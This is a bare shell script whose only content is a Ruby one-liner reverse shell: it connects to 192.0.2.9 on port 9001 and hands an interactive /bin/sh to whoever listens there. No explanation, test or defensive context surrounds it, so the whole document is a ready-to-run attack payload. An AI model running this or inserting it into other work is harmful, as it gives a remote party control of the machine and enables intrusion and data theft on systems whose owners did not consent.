#!/bin/sh
ruby -rsocket -e 'f=TCPSocket.open("192.0.2.9",9001).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
